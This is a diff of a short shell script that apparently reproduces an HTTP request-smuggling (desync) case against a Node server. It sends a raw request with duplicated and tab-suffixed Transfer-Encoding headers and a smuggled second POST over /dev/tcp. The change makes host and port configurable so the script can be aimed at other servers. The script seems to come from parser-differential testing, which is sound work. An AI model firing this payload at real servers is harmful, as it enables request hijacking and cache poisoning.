@@ -1,3 +1,11 @@
-#!/bin/sh
+#!/bin/bash
 # desync/te-chunked-repeated/smuggled-request via header.insert-transfer-encoding+stream.duplicate against node
-printf 'POST / HTTP/1.1\r\nTransfer-Encoding: chunked\t\r\nHost: 127.0.0.1:58937\r\nTransfer-Encoding: chunked\r\n\r\n5;a="b"\r\nhello\r\n0\r\n\r\nPOST /e.1\r\nHost: {h\r\nTransfer-Encoding: chunked\r\n\r\n5;a="b"\r\nhello\r\n0\r\n\r\n' | nc 127.0.0.1 ${PORT:-58937}
+# HOST=… PORT=… aim it at another server (the bytes keep the original Host or :authority).
+HOST=${HOST:-127.0.0.1}
+PORT=${PORT:-58937}
+# A server that closes early makes a later write fail; the answer is still read.
+trap '' PIPE
+exec 3<>"/dev/tcp/$HOST/$PORT" || exit 1
+timeout 2 cat <&3 | xxd &
+printf 'POST / HTTP/1.1\r\nTransfer-Encoding: chunked\t\r\nHost: 127.0.0.1:58937\r\nTransfer-Encoding: chunked\r\n\r\n5;a="b"\r\nhello\r\n0\r\n\r\nPOST /e.1\r\nHost: {h\r\nTransfer-Encoding: chunked\r\n\r\n5;a="b"\r\nhello\r\n0\r\n\r\n' >&3
+wait
